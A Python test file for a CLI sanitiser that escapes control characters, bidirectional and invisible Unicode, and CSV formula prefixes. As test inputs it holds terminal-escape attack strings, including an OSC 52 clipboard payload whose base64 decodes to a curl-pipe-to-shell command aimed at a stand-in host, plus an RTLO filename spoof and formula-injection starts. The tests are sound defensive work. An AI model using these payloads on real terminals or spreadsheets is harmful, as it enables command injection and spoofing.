"""The one place that makes stored text inert for terminals, JSON and CSV."""

from __future__ import annotations

import json

import pytest

from langgraph_redis_saver.cli.sanitize import csv_cell, inert, json_inert

C0 = [chr(c) for c in range(0x20) if chr(c) not in "\n\t"]
C1 = [chr(c) for c in range(0x80, 0xA0)]
BIDI = [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u2028"]
INVISIBLE += ["\udc80"]  # a lone surrogate
UNSAFE = [*C0, "\x7f", *C1, *BIDI, *INVISIBLE]


@pytest.mark.parametrize("char", UNSAFE, ids=lambda c: f"U+{ord(c):04X}")
def test_inert_escapes_every_unsafe_character(char: str) -> None:
    shown = inert(f"a{char}b")
    assert char not in shown
    assert shown.startswith("a\\") and shown.endswith("b")
    assert shown.isprintable()


def test_inert_keeps_ordinary_text_newlines_and_tabs() -> None:
    text = "Grüße, 世界! [bold]not markup[/bold] \\x1b stays literal\n\tindented 🙂"
    assert inert(text) == text


def test_inert_one_line_escapes_line_breaks() -> None:
    assert inert("row\nforged\trow", one_line=True) == "row\\nforged\\trow"
    assert inert("a\rb") == "a\\rb"


def test_inert_attack_strings() -> None:
    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
    assert inert(f"hello{osc52}") == "hello\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07"
    assert inert("\x1b[2J\x1b]0;title\x1b\\") == "\\x1b[2J\\x1b]0;title\\x1b\\"
    assert inert("\x9b31m") == "\\x9b31m"  # 8-bit CSI
    assert inert("evil\u202egnp.exe") == "evil\\u202egnp.exe"


def test_json_inert_is_exact_and_escapes_what_json_leaves_raw() -> None:
    value = {"k\u202e": ["\x7f\x9b\u2066", "\x1b[31m", "plain ü"]}
    text = json_inert(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value
    for char in ("\u202e", "\x7f", "\x9b", "\u2066", "\x1b"):
        assert char not in text
    assert "plain ü" in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralises_formula_starts(start: str) -> None:
    assert csv_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


def test_csv_cell_leaves_other_values() -> None:
    assert csv_cell("a=b") == "a=b"
    assert csv_cell("") == ""
    assert csv_cell(-5) == -5
    assert csv_cell(None) is None
